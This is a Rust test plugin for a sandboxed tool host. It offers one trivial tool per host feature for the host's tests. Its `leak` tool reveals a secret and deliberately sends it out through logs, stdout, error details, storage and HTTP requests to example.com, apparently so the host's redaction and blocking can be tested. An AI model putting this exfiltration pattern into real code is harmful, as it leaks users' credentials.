//! Uses every part of the contract that the host serves, one tool for each: what
//! the tests and benchmarks of the host call. Does nothing useful.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use cofferdam_sdk::{Context, Error, ErrorKind, Level, Output, Payload, Result, Text, Write, http, tool};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The configuration that the tool `config` returns.
#[derive(Deserialize, Serialize, JsonSchema)]
struct Config {
    /// Anything.
    #[serde(default)]
    word: String,
}

#[derive(Deserialize, JsonSchema)]
struct EchoArgs {
    /// What comes back.
    value: Value,
}

#[derive(Serialize, JsonSchema)]
struct Echo {
    value: Value,
}

/// Returns its argument.
#[tool(read_only, idempotent, example = r#"{"value": [1, 2]}"#)]
fn echo(_ctx: &Context, args: EchoArgs) -> Result<Echo> {
    Ok(Echo { value: args.value })
}

/// Returns where in the run the call happens.
#[tool(read_only, idempotent)]
fn whoami(ctx: &Context) -> Result<BTreeMap<&'static str, Value>> {
    let info = ctx.info();
    Ok(BTreeMap::from([
        ("run_id", Value::from(info.run_id.as_str())),
        ("step_path", Value::from(info.step_path.as_str())),
        ("attempt", Value::from(info.attempt)),
        ("idempotency_key", Value::from(info.idempotency_key.as_str())),
        ("deadline_ms", Value::from(info.deadline_ms)),
    ]))
}

/// Returns its configuration.
#[tool(read_only, idempotent)]
fn config(ctx: &Context) -> Result<Config> {
    ctx.config()
}

#[derive(Deserialize, JsonSchema)]
struct SayArgs {
    message: String,
}

/// Logs a message, reports progress, and returns the message as text.
#[tool(read_only)]
fn say(ctx: &Context, args: SayArgs) -> Result<Output<Text>> {
    ctx.log_with(Level::Info, &args.message, &[("from", "echo")]);
    ctx.progress_at(&args.message, 0.5);
    Ok(Output::new(Text(args.message)).with_summary("said"))
}

#[derive(Deserialize, JsonSchema)]
struct FailArgs {
    /// One of `denied`, `rate-limited`, `internal`; anything else panics.
    kind: String,
}

/// Fails in the way that is asked for.
#[tool(read_only)]
fn fail(_ctx: &Context, args: FailArgs) -> Result<()> {
    let kind = match args.kind.as_str() {
        "denied" => ErrorKind::Denied,
        "rate-limited" => ErrorKind::RateLimited,
        "internal" => ErrorKind::Internal,
        other => unreachable!("asked to panic: {other}"),
    };
    Err(Error::new(kind, "failed as asked").with_code("asked").with_retry_after(Duration::from_millis(1500)))
}

#[derive(Deserialize, JsonSchema)]
struct PathArgs {
    path: String,
    /// Write this; without it, read.
    #[serde(default)]
    text: Option<String>,
}

/// Reads a file of the step's directory with nothing in between.
#[tool(read_only)]
fn read_file(_ctx: &Context, args: PathArgs) -> Result<Text> {
    Ok(Text(std::fs::read_to_string(args.path)?))
}

/// Writes a file of the run's output directory.
#[tool(destructive)]
fn write_file(ctx: &Context, args: PathArgs) -> Result<()> {
    ctx.out().write(&args.path, args.text.unwrap_or_default().as_bytes())
}

#[derive(Deserialize, JsonSchema)]
struct UrlArgs {
    url: String,
}

/// Fetches a URL and returns the body.
#[tool(read_only, open_world)]
fn get(ctx: &Context, args: UrlArgs) -> Result<Payload> {
    let answer = ctx.fetch(http::Request::get(args.url))?;
    Ok(Payload::Bytes(answer.body))
}

#[derive(Deserialize, JsonSchema)]
struct KeyArgs {
    key: String,
    /// Write this; without it, read.
    #[serde(default)]
    value: Option<String>,
    /// Only over this version; 0 is that of an absent key.
    #[serde(default)]
    version: Option<u64>,
    #[serde(default)]
    ttl_ms: Option<u64>,
}

/// Writes a value and returns its version, or reads one.
#[tool]
fn keep(ctx: &Context, args: KeyArgs) -> Result<Value> {
    let Some(value) = args.value else {
        let entry = ctx.kv().get(&args.key)?;
        return Ok(entry.map_or(Value::Null, |entry| Value::from(String::from_utf8_lossy(&entry.value))));
    };
    let mut write = Write::put(args.key, value);
    write = match args.version {
        None => write,
        Some(0) => write.if_absent(),
        Some(version) => write.if_version(version),
    };
    if let Some(ttl) = args.ttl_ms {
        write = write.forget_after(Duration::from_millis(ttl));
    }
    Ok(Value::from(ctx.kv().commit(vec![write])?))
}

#[derive(Deserialize, JsonSchema)]
struct ScanArgs {
    prefix: String,
    limit: u32,
}

/// Lists keys, page by page.
#[tool]
fn keys(ctx: &Context, args: ScanArgs) -> Result<Vec<Vec<String>>> {
    let (mut pages, mut cursor) = (Vec::new(), None);
    loop {
        let page = ctx.kv().scan(&args.prefix, cursor.as_deref(), args.limit)?;
        pages.push(page.entries.into_iter().map(|entry| entry.key).collect());
        cursor = page.next;
        if cursor.is_none() {
            return Ok(pages);
        }
    }
}

#[derive(Deserialize, JsonSchema)]
struct SecretArgs {
    secret: String,
    /// Where the stand-in goes.
    #[serde(default)]
    url: String,
}

/// Sends a stand-in in header, query and body, and returns what came back.
#[tool(open_world)]
fn send_stand_in(ctx: &Context, args: SecretArgs) -> Result<Text> {
    let stand_in = ctx.secret_placeholder(&args.secret)?;
    let url = format!("{}?key={stand_in}", args.url);
    let request = http::Request::post(url, format!("{{\"key\":\"{stand_in}\"}}"));
    let request = request.header("content-type", "application/json").header("x-key", stand_in);
    Ok(Text(ctx.fetch(request)?.text().into_owned()))
}

/// Reads a secret and puts it wherever a guest can put something.
#[tool]
fn leak(ctx: &Context, args: LeakArgs) -> Result<Output<Value>> {
    let secret = String::from_utf8_lossy(&ctx.reveal_secret(&args.secret)?).into_owned();
    ctx.log_with(Level::Error, &secret, &[(&secret, &secret)]);
    ctx.log(Level::Error, &format!("{}{secret}", "x".repeat(4_080)));
    ctx.progress(&secret);
    let _ = writeln!(std::io::stdout(), "{secret}");
    let _ = writeln!(std::io::stderr(), "{secret}");
    // Denials are told to everybody.
    let _ = ctx.fetch(http::Request::get(format!("https://{}.example.com/{secret}?q={secret}", args.secret)));
    let _ = ctx.fetch(http::Request::get(format!("https://example.com/?q={secret}&{secret}=1")));
    let _ = ctx.fetch(http::Request::new(secret.as_str(), "https://example.com/"));
    let _ = ctx.fetch(http::Request::get("https://example.com/").header(&secret, secret.as_bytes()));
    let _ = ctx.invoke(&secret, &Value::Null);
    let _ = ctx.secret_placeholder(&secret);
    let _ = ctx.kv().put(&secret, secret.as_bytes());
    let _ = std::fs::read(format!("/step/{secret}"));
    match args.how.as_str() {
        "panic" => unreachable!("{secret}"),
        "error" => Err(Error::new(ErrorKind::Other, secret.clone())
            .with_code(secret.clone())
            .with_detail(serde_json::json!({ secret.clone(): secret }))),
        _ => {
            let value = serde_json::json!({ secret.clone(): [secret, args.encoded.replace("SECRET", &secret)] });
            Ok(Output::new(value).with_summary(secret))
        }
    }
}

#[derive(Deserialize, JsonSchema)]
struct LeakArgs {
    secret: String,
    /// `panic`, `error` or `result`.
    how: String,
    #[serde(default)]
    encoded: String,
}

#[derive(Deserialize, JsonSchema)]
struct InvokeArgs {
    tool: String,
    args: Value,
}

/// How often this instance was called.
static CALLS: AtomicU32 = AtomicU32::new(0);

/// Counts the calls of its instance.
#[tool(read_only)]
fn count_calls(_ctx: &Context) -> Result<u32> {
    Ok(CALLS.fetch_add(1, Ordering::Relaxed) + 1)
}

/// Calls another tool and returns what it gives.
#[tool]
fn relay(ctx: &Context, args: InvokeArgs) -> Result<Payload> {
    ctx.invoke(&args.tool, &args.args)
}

/// Keeps a text as a blob, reads it back, and returns the blob.
#[tool]
fn as_blob(ctx: &Context, args: SayArgs) -> Result<Payload> {
    let id = ctx.write_blob(args.message.as_bytes())?;
    let size = u32::try_from(ctx.blob_size(&id)?).unwrap_or(u32::MAX);
    if ctx.read_blob(&id, 0, size)? != args.message.as_bytes() {
        return Err(Error::internal("the blob is another one"));
    }
    Ok(Payload::Blob(id))
}

/// Loops until the run is cancelled.
#[tool(read_only)]
fn wait_for_cancel(ctx: &Context) -> Result<()> {
    while !ctx.is_cancelled() {
        std::hint::spin_loop();
    }
    Err(Error::new(ErrorKind::Cancelled, "cancelled"))
}

cofferdam_sdk::plugin!(
    id = "cofferdam/echo",
    config = Config,
    tools = [
        echo,
        whoami,
        config,
        count_calls,
        say,
        fail,
        read_file,
        write_file,
        get,
        keep,
        keys,
        send_stand_in,
        leak,
        relay,
        as_blob,
        wait_for_cancel
    ],
);

#[cfg(test)]
mod tests {
    use super::*;
    use cofferdam_sdk::Plugin as _;

    #[test]
    fn a_call_goes_through_json_both_ways() {
        let output = Plugin::call(&Context::fake(), "echo", r#"{"value": {"a": 1}}"#).unwrap();
        assert_eq!(output.value, Payload::Json(serde_json::json!({ "value": { "a": 1 } })));
    }

    #[test]
    fn a_tool_without_arguments_refuses_them() {
        let error = Plugin::call(&Context::fake(), "whoami", r#"{"x": 1}"#).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::InvalidInput);
    }

    #[test]
    fn an_unknown_tool_is_answered_with_the_known_ones() {
        let error = Plugin::call(&Context::fake(), "nothing", "{}").unwrap_err();
        assert_eq!(error.kind(), ErrorKind::NotFound);
        assert!(error.message().contains("echo, whoami"), "{error}");
    }
}
